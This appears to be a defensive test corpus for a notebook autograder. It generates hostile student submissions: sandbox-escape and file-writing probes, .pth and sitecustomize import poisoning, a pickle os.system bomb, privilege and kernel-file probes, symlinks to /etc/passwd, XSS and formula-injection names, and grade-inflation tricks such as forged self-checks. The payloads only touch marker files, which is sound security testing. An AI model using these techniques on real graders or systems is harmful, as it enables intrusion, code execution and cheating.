# ---- writing, network, privileges ---------------------------------------------------------------

attack(
    "writes-outside",
    "Write files wherever it may.",
    """
    for root in ("", "../../../..", "/proc/1/root", f"/proc/{os.getppid()}/root",
                 f"/proc/{AT.test}/root"):
        for folder in AT.outside:
            try:
                with open(f"{root}{folder}/{AT.marker}", "w") as file:
                    file.write("here")
            except OSError:
                pass
    """,
)
attack(
    "poisons-python",
    "Leave modules that the next Python would import.",
    """
    code = f"open('/tmp/{AT.marker}', 'w'); open('{AT.out}/{AT.marker}', 'w')"
    prefixes = {sys.prefix, sys.base_prefix, os.path.dirname(os.__file__), *sys.path, AT.packages,
                AT.repo, AT.home}
    for folder in prefixes:
        for name in (f"{AT.marker}.pth", f"{AT.marker}_customize.py"):
            try:
                with open(os.path.join(folder, name), "w") as file:
                    file.write("import sys; " + code)
            except OSError:
                pass
    for path in (np.__file__, json.__file__):
        try:
            fd = os.open(path, os.O_WRONLY)  # opened only: nothing is written
        except OSError:
            continue
        saw(path)
    """,
)
LETTERBOXES = """
    places = [f"{folder}/{AT.marker}-letter" for folder in
              (".", "/tmp", "/dev/shm", "/var/tmp", "/run", os.path.expanduser("~"), sys.prefix)]
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
"""
attack(
    "letter-left",
    "Leave a letter for another student: files, keys of the kernel, queues, segments.",
    textwrap.dedent(LETTERBOXES)
    + textwrap.dedent("""
    for place in places:
        try:
            with open(place, "w") as file:
                file.write("letter")
        except OSError:
            pass
    libc.syscall(248, b"user", AT.marker.encode(), b"letter", 6, -4)  # add_key
    segment = libc.shmget(0x5EED1E77, 4096, 0o1666)
    """),
)
attack(
    "letter-taken",
    "Look for the letter.",
    textwrap.dedent(LETTERBOXES)
    + textwrap.dedent("""
    time.sleep(0.3)
    for place in places:
        if os.path.exists(place):
            saw(place)
    if libc.syscall(249, b"user", AT.marker.encode(), None, 0) > 0:  # request_key
        saw("a key")
    if libc.shmget(0x5EED1E77, 4096, 0o666) >= 0:
        saw("a segment")
    """),
)
attack(
    "network",
    "Connect to whatever listens, and ask for names.",
    """
    reached = []
    for family, kind, address in (
        (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", AT.port)),
        (socket.AF_INET6, socket.SOCK_STREAM, ("::1", AT.port)),
        (socket.AF_UNIX, socket.SOCK_STREAM, AT.socket),
        (socket.AF_UNIX, socket.SOCK_STREAM, "\\0" + AT.abstract),
        (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", AT.port)),
    ):
        try:
            with socket.socket(family, kind) as s:
                s.settimeout(0.3)
                s.connect(address)
                s.send(AT.marker.encode())
                if kind == socket.SOCK_STREAM:
                    reached.append(str(address))
        except OSError:
            pass
    try:  # between virtual machines and what runs them; 1 is this machine itself
        with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as s:
            s.settimeout(0.3)
            s.connect((1, AT.port))
            reached.append("vsock")
    except (OSError, AttributeError):
        pass
    if reached:
        saw(reached)
    try:
        with socket.create_server(("0.0.0.0", 0)) as server:
            if not alone():
                saw("a server on this machine")
    except OSError:
        pass
    """,
)
attack(
    "privileges",
    "Become root, make devices, set the clock, open the kernel's settings.",
    """
    libc = ctypes.CDLL(None, use_errno=True)
    for change in (os.setuid, os.setgid, os.seteuid):
        try:
            change(0)
        except OSError:
            pass
    for place in (".", "/tmp", "/dev"):
        try:
            os.mknod(f"{place}/null2", 0o20666, os.makedev(1, 3))
        except OSError:
            continue
        saw("mknod")
    now = time.clock_gettime(time.CLOCK_REALTIME)
    try:
        time.clock_settime(time.CLOCK_REALTIME, now)
    except OSError:
        pass
    else:
        saw("clock_settime")
    for path in ("/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern", "/dev/mem", "/dev/kmsg",
                 "/proc/sys/kernel/modprobe", "/sys/kernel/uevent_helper", "/proc/1/mem"):
        try:
            os.close(os.open(path, os.O_WRONLY))  # opened only: nothing is written
        except OSError:
            continue
        if not (path == "/proc/1/mem" and alone()):
            saw(path)
    try:
        os.setpriority(os.PRIO_PROCESS, 0, -10)
        saw("a better priority")
    except OSError:
        pass
    """,
)

# ---- pickles and files beside the notebook ------------------------------------------------------


@hostile(GRADED, CRASHED)
def pickled_value(s):
    """Return objects whose unpickling would write a file on the trusted side."""
    s.answer(
        "slope",
        """
        import pickle
        class Bomb:
            def __reduce__(self):
                return os.system, (f"touch /tmp/{AT.marker} {AT.out}/{AT.marker}",)

        def slope(x):
            return pickle.dumps(Bomb()) if np.ndim(x) else np.array(Bomb(), dtype=object)
        """,
    )


@hostile(GRADED, REVIEW, merit="slope centre")
def files_beside(s):
    """Put modules and pickles beside a right notebook, named like what a grader imports."""
    s.honest()
    bomb = f"open({s.at.out + '/' + s.at.marker!r}, 'w')\nraise SystemExit(0)\n"
    for name in ("numpy", "json", "sitecustomize", "gradnb", "calls", "conftest", "grading"):
        (s.folder / f"{name}.py").write_text(bomb)
    command = f"touch {s.at.out}/{s.at.marker}"
    pickled = b"cposix\nsystem\n(S'" + command.encode() + b"'\ntR."
    for name in ("data.pkl", "answers.npy", "results.pickle"):
        (s.folder / name).write_bytes(pickled)
    (s.folder / "results").mkdir()
    (s.folder / "results" / "aaa-honest.json").write_text('{"student": "aaa-honest", "score": 0}')
    (s.folder / "grades.csv").write_text("student,score\nfiles-beside,1000\n")


# ---- notebooks ----------------------------------------------------------------------------------


@hostile(GRADED, REVIEW, merit="slope centre", exact=False)
def duplicated(s):
    """Have an answer twice, right and wrong, under one name (an honest copy and paste)."""
    s.honest()
    twin = copy.deepcopy(s.cell("slope"))
    twin["source"] = "def slope(x):\n    return x\n"
    s.cells.insert(s.cells.index(s.cell("slope")), twin)


@hostile(GRADED, REVIEW, merit="slope centre")
def duplicated_checks(s):
    """Have the cell of the self-check twice."""
    s.honest()
    check = s.cell("slope-check")
    s.cells.insert(s.cells.index(check), copy.deepcopy(check))


@hostile(GRADED, REVIEW, merit="slope centre", exact=False)
def stripped(s):
    """Come through a tool that dropped all metadata, with right answers."""
    s.honest()
    for cell in s.cells:
        cell["metadata"] = {}
    s.notebook["metadata"] = {}


@hostile(GRADED, REVIEW, merit="centre")
def deleted(s):
    """Lack the cells of the first task."""
    s.honest("centre")
    for name in ("slope", "slope-check"):
        s.cells.remove(s.cell(name))


@hostile(GRADED, REVIEW, merit="slope centre", exact=False)
def renamed(s):
    """Have right answers under the names of other cells."""
    s.honest()
    nbgrader(s.cell("slope"))["grade_id"] = "slope-new"
    nbgrader(s.cell("slope-check"))["grade_id"] = "setup"


@hostile(GRADED, REVIEW, merit="slope centre", exact=False)
def renamed_to_given(s):
    """Have a right answer under the name of a cell that is not the student's."""
    s.honest()
    nbgrader(s.cell("slope"))["grade_id"] = "setup"


@hostile(GRADED, REVIEW, merit="slope centre", exact=False)
def helper_in_a_copied_cell(s):
    """Have a helper in a copy of a given cell, which keeps that cell's name (an honest slip)."""
    s.honest()
    twin = copy.deepcopy(s.cell("setup"))
    twin["source"] = "def helper(x):\n    return 3 * x**2\n"
    s.cells.insert(s.cells.index(s.cell("slope")), twin)
    s.cell("slope")["source"] = "def slope(x):\n    return helper(x)\n"


@hostile(GRADED, REVIEW, merit="slope centre", exact=False)
def helper_in_a_copied_check(s):
    """Have a helper in a copy of a self-check's cell."""
    s.honest()
    twin = copy.deepcopy(s.cell("slope-check"))
    twin["source"] = "def helper(x):\n    return 3 * x**2\n"
    s.cells.insert(s.cells.index(s.cell("slope")), twin)
    s.cell("slope")["source"] = "def slope(x):\n    return helper(x)\n"


@hostile(GRADED, REVIEW, merit="slope centre", exact=False)
def helper_in_a_given_cell(s):
    """Have a helper below the code of a given cell."""
    s.honest()
    s.cell("setup")["source"] += "\n\ndef helper(x):\n    return 3 * x**2\n"
    s.cell("slope")["source"] = "def slope(x):\n    return helper(x)\n"


@hostile(GRADED, REVIEW, STOPPED, merit="slope centre", exact=False)
def slow_helper(s):
    """Have a helper in a cell of its own that takes too long."""
    s.honest()
    cell = new_code_cell("import time\ntime.sleep(4)\ndef helper(x):\n    return 3 * x**2\n")
    s.cells.insert(s.cells.index(s.cell("slope")), json.loads(json.dumps(cell)))
    s.cell("slope")["source"] = "def slope(x):\n    return helper(x)\n"


@hostile(REVIEW, GRADED, merit="slope centre", exact=False)
def turned_to_text(s):
    """Have a right answer in a markdown cell and one in a raw cell."""
    s.honest()
    s.cell("slope")["cell_type"] = "markdown"
    s.cell("centre")["cell_type"] = "raw"


@hostile(GRADED, REVIEW)
def checks_edited(s):
    """Have self-checks that always pass, and say that they did."""
    for name in ("slope-check", "centre-check"):
        s.cell(name)["source"] = "slope = lambda x: 3 * x**2\nanswer = data.mean()\nassert True"
        s.cell(name)["outputs"] = [
            {"output_type": "stream", "name": "stdout", "text": "passed: 1000 points"}
        ]


@hostile(GRADED, REVIEW, merit="slope")
def many_points(s):
    """Raise the points in its own metadata, and add cells with more."""
    s.honest("slope")
    extra = copy.deepcopy(s.cell("slope-check"))
    nbgrader(extra).update(grade_id="extra-credit", points=1000, grade=True)
    extra["source"] = "assert True"
    s.cells.append(extra)
    for cell in s.cells:
        if nbgrader(cell):
            nbgrader(cell)["points"] = 1000
    s.notebook["metadata"]["nbgrader"] = {"score": 1000, "grade": "A"}


@hostile(GRADED, REVIEW)
def data_edited(s):
    """Make its own data zero, for which the answer is known."""
    s.cell("setup")["source"] = "import numpy as np\nSEED = 0\ndata = np.zeros(20)\n"
    s.answer("centre", "data = np.zeros(20)\nnp.random.default_rng = None\nanswer = data.mean()")


@hostile(GRADED, REVIEW, merit="slope centre")
def skipped(s):
    """Tag its cells to be skipped, hidden and removed."""
    s.honest()
    for cell in s.cells:
        cell["metadata"]["tags"] = ["skip-execution", "remove-cell", "raises-exception", 7, None]


@hostile(GRADED, REVIEW, UNREADABLE, merit="slope centre", exact=False)
def odd_metadata(s):
    """Have metadata of every wrong kind beside right answers."""
    s.honest()
    odd = [
        None,
        [],
        "x",
        3,
        {"grade_id": ["slope"]},
        {"grade_id": {}, "solution": 1},
        {"grade_id": None},
    ]
    for value in odd:
        cell = new_code_cell("0")
        cell["metadata"]["nbgrader"] = value
        s.cells.append(json.loads(json.dumps(cell)))
    s.cells.append({"cell_type": "code", "metadata": [], "source": "", "outputs": []})


@hostile(GRADED, REVIEW, merit="slope centre")
def magics(s):
    """Have magics and shell commands, which must not run, beside right answers."""
    s.honest()
    marker = f"{s.at.out}/{s.at.marker}"
    s.cell("slope")["source"] = f"%matplotlib inline\n!touch {marker}\n{HONEST['slope']}"
    cell = new_code_cell(f"%%bash\ntouch {marker}\n")
    s.cells.append(json.loads(json.dumps(cell)))


@hostile(GRADED, REVIEW, merit="slope centre")
def added_cells(s):
    """Answer in cells of its own; the answers' cells are as they were."""
    position = s.cells.index(s.cell("centre"))
    s.cells.insert(position, json.loads(json.dumps(new_code_cell(HONEST["slope"]))))
    s.cells.append(json.loads(json.dumps(new_code_cell(HONEST["centre"]))))


@hostile(GRADED, REVIEW, merit="slope centre")
def injection(s):
    """Put markup, templates and control characters into explanations, names and errors."""
    s.honest()
    s.cell("why")["source"] = (
        "</pre></textarea><script>alert(1)</script><img src=x onerror=alert(1)> "
        "{{ 7*191 }} {% raw %} "
        "[x](javascript:alert(1)) <style>*{display:none}</style> <!-- \x00\x1b[31m \u202e ]]> &lt;"
    )
    s.cells.append(
        json.loads(
            json.dumps(
                new_code_cell("""
exec("class Bad(Exception): pass\\nBad.__name__ = '<script>alert(1)</script>'")
raise Bad("<script>alert(2)</script><img src=x onerror=alert(3)>{{ 7*191 }}\\x00\\r\\n=1+1")
""")
            )
        )
    )


@hostile(GRADED, REVIEW, UNREADABLE, merit="slope centre", exact=False)
def half_characters(s):
    """Have halves of characters in code, errors and explanations, which UTF-8 cannot write."""
    s.honest()
    s.cell("why")["source"] = "because \ud800 \udfff"
    s.cells.append(json.loads(json.dumps(new_code_cell("raise ValueError('\ud83d')"))))
    s.cells.append(json.loads(json.dumps(new_code_cell("raise ValueError('\\ud83d')"))))


# ---- files --------------------------------------------------------------------------------------


def broken(name, tries, data, *status, merit="", exact=True):
    """Add a submission whose file is `data`, or what `data` makes of the submission."""

    def make(submission):
        if merit:
            submission.honest(*merit.split())
        submission.write(data(submission) if callable(data) else data)
        return True

    make.__doc__ = tries
    hostile(*status, merit=merit, exact=exact, name=name)(make)


ODD = (UNREADABLE, REVIEW)


def _changed(**changes):
    return lambda s: json.dumps({**s.notebook, **changes})


def _sources(source):
    def make(s):
        for cell in s.cells:
            cell["source"] = source(cell["source"])
        return json.dumps(s.notebook)

    return make


broken("empty", "Be an empty file.", b"", *ODD)
broken("truncated", "End in the middle.", lambda s: json.dumps(s.notebook)[:-900], *ODD)
broken("binary", "Be no text.", bytes(range(256)) * 50, *ODD)
broken("nulls", "Be nothing but zero bytes.", bytes(100_000), *ODD)
broken(
    "byte-order-mark",
    "Begin with a byte order mark, as some editors have it.",
    lambda s: b"\xef\xbb\xbf" + json.dumps(s.notebook).encode(),
    GRADED,
    *ODD,
    merit="slope centre",
    exact=False,
)
broken(
    "utf-16",
    "Be written in UTF-16.",
    lambda s: json.dumps(s.notebook).encode("utf-16"),
    GRADED,
    *ODD,
    merit="slope centre",
    exact=False,
)
broken("nested-json", "Be JSON nested 100,000 deep.", b'{"cells": ' + b"[" * 100_000, *ODD)
broken(
    "nested-whole",
    "Be JSON nested 100,000 deep, and whole.",
    b'{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": '
    + b'{"a":' * 100_000
    + b"1"
    + b"}" * 100_000
    + b"}",
    *ODD,
)
for _name, _json in {"list": b"[]", "null": b"null", "text": b'"x"', "number": b"1e999"}.items():
    broken(f"json-{_name}", f"Be JSON, but no notebook: {_name}.", _json, *ODD)
broken("cells-dict", "Have cells that are no list.", _changed(cells={"a": 1}), *ODD)
broken("cells-odd", "Have cells that are no cells.", _changed(cells=[None, 3, "x", [], {}]), *ODD)
broken(
    "many-cells",
    "Have 500,000 cells.",
    lambda s: json.dumps({**s.notebook, "cells": []}).replace(
        "[]", "[" + ",".join(['{"cell_type":"code","source":"1/0"}'] * 500_000) + "]", 1
    ),
    *ODD,
    CRASHED,
    STOPPED,
)
broken("no-cells", "Have no cells.", _changed(cells=[]), *ODD)
broken("format-3", "Be a notebook of the third format.", _changed(nbformat=3), GRADED, *ODD)
broken("format-odd", "Be of no format at all.", _changed(nbformat="<script>"), GRADED, *ODD)
broken("format-huge", "Be of a format of the future.", _changed(nbformat=10**400), GRADED, *ODD)
broken(
    "source-lists",
    "Have its lines as lists, as notebooks are stored, with right answers.",
    _sources(lambda source: source.splitlines(keepends=True)),
    GRADED,
    merit="slope centre",
)
broken("source-number", "Have numbers in place of code.", _sources(lambda source: 7), *ODD)
broken("source-null", "Have nothing in place of code.", _sources(lambda source: None), *ODD)
broken(
    "source-odd", "Has lists of lists in place of code.", _sources(lambda source: [[1], {}]), *ODD
)
broken(
    "nan-in-json",
    "Have NaN and numbers beyond all measure in its metadata, with right answers.",
    lambda s: json.dumps(s.notebook).replace(
        '"metadata": {', f'"metadata": {{"a": NaN, "b": -Infinity, "c": 1e999, "d": {10**400},', 1
    ),
    GRADED,
    *ODD,
    merit="slope centre",
    exact=False,
)
broken(
    "digits",
    "Have a number with 100,000 digits.",
    lambda s: json.dumps(s.notebook).replace(
        '"metadata": {', f'"metadata": {{"d": {"9" * 100_000},', 1
    ),
    GRADED,
    *ODD,
    merit="slope centre",
    exact=False,
)


@hostile(GRADED, REVIEW, UNREADABLE, merit="slope centre", exact=False)
def outputs_of_50_mb(s):
    """Have right answers and 50 MB of outputs."""
    s.honest()
    text = "x" * 1_000_000
    out = {"output_type": "stream", "name": "stdout", "text": text}
    s.cell("slope")["outputs"] = [out] * 50


@hostile(*ODD)
def zeros_of_2_gb(s):
    """Be a file of 2 GB that takes no room."""
    with open(s.path, "wb") as file:
        file.truncate(2 << 30)
    return True


@hostile(*ODD)
def endless_file(s):
    """Be a link to a device that can be read for ever."""
    s.path.symlink_to("/dev/zero")
    return True


@hostile(*ODD)
def folder_as_file(s):
    """Be a folder by the notebook's name."""
    s.path.mkdir()
    return True


@hostile(*ODD)
def link_to_passwords(s):
    """Be a link to a file of the system."""
    s.path.symlink_to("/etc/passwd")
    return True


@hostile(*ODD)
def link_to_solution(s):
    """Be a link to the solutions."""
    s.path.symlink_to(Path(s.at.exercises, "source", SET, f"{SET}.ipynb"))
    return True


@hostile(*ODD)
def link_to_another(s):
    """Be a link to another student's notebook."""
    s.path.symlink_to(Path("..", "aaa-honest", f"{SET}.ipynb"))
    return True


@hostile(*ODD)
def link_to_itself(s):
    """Be a link to itself."""
    s.path.symlink_to(s.path.name)
    return True


@hostile(*ODD)
def folder_elsewhere(s):
    """Be a student's folder that is a link to another's."""
    s.folder.rmdir()
    s.folder.symlink_to("aaa-honest")
    return True


@hostile(*ODD)
def waits_for_a_writer(s):
    """Be a pipe that nobody writes to."""
    os.mkfifo(s.path)
    return True


@hostile(*ODD)
def socket_as_file(s):
    """Be a socket."""
    here = os.getcwd()
    try:
        os.chdir(s.folder)  # a socket's path must be short
        with socket.socket(socket.AF_UNIX) as server:
            server.bind(s.path.name)
    finally:
        os.chdir(here)
    return True


@hostile(GRADED, *ODD, merit="slope centre", exact=False)
def not_permitted(s):
    """Be a file that may not be read (root may)."""
    s.honest()
    s.write()
    s.path.chmod(0)
    return True


@hostile(GRADED, *ODD, merit="slope centre", exact=False)
def two_notebooks(s):
    """Have a right notebook and an empty one, neither by the set's name."""
    s.write(name="first.ipynb")
    s.honest()
    s.write(name="second.ipynb")
    return True


@hostile(GRADED, REVIEW, merit="slope centre")
def wrong_name(s):
    """Have its notebook under another name."""
    s.honest()
    s.write(name=f"my {SET} (final) (1).ipynb")
    return True


@hostile(*ODD, merit="slope centre", exact=False)
def zipped(s):
    """Be an archive by the notebook's name."""
    s.honest()
    with zipfile.ZipFile(s.path, "w") as archive:
        archive.writestr(f"{SET}.ipynb", json.dumps(s.notebook))
    return True


@hostile(*ODD)
def nothing(s):
    """Be an empty folder."""
    return True


@hostile(*ODD)
def text_only(s):
    """Hold a letter of excuse, and no notebook."""
    s.write("I was ill.", name="excuse.txt")
    return True


# ---- names --------------------------------------------------------------------------------------


def named(name, token, tries, status=(GRADED,), merit="slope centre"):
    """Add a submission whose attack is the name of the student; the answers are right."""

    def make(submission):
        submission.honest(*merit.split())

    make.__doc__ = tries
    hostile(*status, merit=merit, name=name, token=token)(make)


named("Same-student", "Same-student", "Have a name that another has in small letters.")
named("same-STUDENT", "same-STUDENT", "Have a name that another has in large letters.")
named("name\nwith-a-newline", "with-a-newline", "Have a newline in its name.")
named("..%2F..%2Fescaped", "escaped", "Have a way upwards in its name.")
named("<img src=x onerror=alert(1)>markup", "markup", "Have markup in its name.")
named("'\"><b>quotes, and commas", "quotes, and commas", "Have quotes and commas in its name.")
named("l" * 240 + "-long-name", "-long-name", "Have a name of 250 characters.")
named("CON", "CON", "Have a name that some systems keep for devices.")
named(os.fsdecode(b"not-utf-8-\xff\xfe"), "not-utf-8-", "Have bytes in its name that are no text.")
named("=HYPERLINK(1)formula", "HYPERLINK(1)formula", "Have a formula for its name.")
named("@SUM(1)formula", "SUM(1)formula", "Have a formula for its name.")
named("-2+3+cmd", "2+3+cmd", "Have a formula for its name, and an option of a command.")
named("--out", "--out", "Have an option of a command for its name.")
named("u\u0308ber-\u202eodd", "ber-\u202eodd", "Have a name that is read from the right.")
named("index", "index", "Have a name that a web server shows first.")


# ---- the problem set ----------------------------------------------------------------------------

CHECKS = '''
"""Hidden checks. {canary}"""

import numpy as np

from grading import Check, Task, close


def slope_inputs(rng):
    return {{"x": rng.normal(size=(4, 3))}}


TASKS = [
    Task(
        "slope",
        slope_inputs,
        [
            Check("value", 2, "It is right for a batch.",
                  lambda given, got: close(got["batch"], 3 * given["x"] ** 2)),
            Check("negative", 1, "It is right for a negative number.",
                  lambda given, got: close(got["negative"], 12.0)),
        ],
        seconds={seconds},
    ),
    Task(
        "centre",
        lambda rng: {{}},
        [
            Check("mean", 2, "It is the mean of your data.",
                  lambda given, got: close(
                      got["answer"], np.random.default_rng(given["seed"]).normal(size=20).mean())),
        ],
        seconds={seconds},
    ),
]
'''
CALLS = '''
"""Call what the student wrote."""


def slope(student, given):
    yield "batch", lambda: student.slope(given["x"].copy())
    yield "negative", lambda: student.slope(-2.0)


def centre(student, given):
    yield "answer", lambda: student.answer
'''
ANSWERS = '"""Answers. {canary}"""\n\nWRONG = []\nRIGHT = []\n'


def _cell(make, source, name, **mark):
    cell = make(source, id=name)
    kept = {"grade": False, "locked": False, "solution": False, "task": False, "schema_version": 3}
    cell.metadata["nbgrader"] = {**kept, "grade_id": name, **mark}
    return cell


def write_set(exercises: Path, canary: str, seconds: float = 2.0) -> None:
    """Write the problem set, with a canary wherever students must not look."""
    begin, end = "### BEGIN SOLUTION", "### END SOLUTION"
    data = "data = np.random.default_rng(SEED).normal(size=20)"
    setup = f"import numpy as np\n\nSEED = 0  # yours\n{data}"
    slope = f"def slope(x):\n    {begin}\n    return 3 * x**2  # {canary}\n    {end}"
    centre = f"{begin}\nanswer = data.mean()  # {canary}\n{end}"
    rubric = f"=== BEGIN MARK SCHEME ===\n{canary}\n=== END MARK SCHEME ==="
    why = f"{begin}\nBecause. {canary}\n{end}\n\n{rubric}"
    locked, graded = {"locked": True}, {"locked": True, "grade": True}
    cells = [
        _cell(new_markdown_cell, "# Problem set 9: hostile", "intro", **locked),
        _cell(new_code_cell, setup, "setup", **locked),
        _cell(new_markdown_cell, "## Task 1. The slope (3 points)", "slope-text", **locked),
        _cell(new_code_cell, slope, "slope", solution=True),
        _cell(new_code_cell, "assert slope(1.0) == 3", "slope-check", points=3, **graded),
        _cell(new_markdown_cell, "## Task 2. The centre (2 points)", "centre-text", **locked),
        _cell(new_code_cell, centre, "centre", solution=True),
        _cell(new_code_cell, "assert answer != 0", "centre-check", points=2, **graded),
        _cell(new_markdown_cell, "## Task 3. Why (2 points)", "why-text", **locked),
        _cell(new_markdown_cell, why, "why", points=2, solution=True, grade=True),
    ]
    kernel = {"display_name": "Python 3 (ipykernel)", "language": "python", "name": "python3"}
    notebook = new_notebook(cells=cells, metadata={"kernelspec": kernel})
    texts = {
        f"source/{SET}/{SET}.ipynb": nbformat.writes(notebook),
        f"checks/{SET}.py": CHECKS.format(canary=canary, seconds=seconds),
        f"calls/{SET}.py": CALLS,
        f"answers/{SET}.py": ANSWERS.format(canary=canary),
    }
    for name, text in texts.items():
        path = exercises / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")


def release_like(source: dict) -> dict:
    """Return a source notebook as students get it, near enough: stubs for solutions."""
    notebook = json.loads(json.dumps(source))
    for cell in notebook["cells"]:
        if is_solution(cell):
            cell["source"] = re.sub(
                r"( *)### BEGIN SOLUTION.*?### END SOLUTION",
                lambda found: textwrap.indent(STUB, found[1]),
                cell["source"],
                flags=re.DOTALL,
            )
        elif nbgrader(cell).get("solution"):
            cell["source"] = "YOUR ANSWER HERE"
    return notebook


HONEST_STUDENTS = ["aaa-honest", "honest-neighbour", "mmm-honest", "zzz-honest"]


def write_all(at: At, corpus=CORPUS) -> None:
    """Write every submission of a corpus and the honest neighbours."""
    folder = Path(at.submissions)
    source = nbformat.read(Path(at.exercises, "source", SET, f"{SET}.ipynb"), as_version=4)
    release = release_like(source)
    for name in HONEST_STUDENTS:
        (folder / name).mkdir(parents=True)
        neighbour = Submission(at, folder / name, release)
        neighbour.honest()
        neighbour.write()
    for hostile_one in corpus:
        place = folder / hostile_one.name
        place.mkdir(parents=True)
        submission = Submission(at, place, release)
        if not hostile_one.make(submission):
            submission.write()
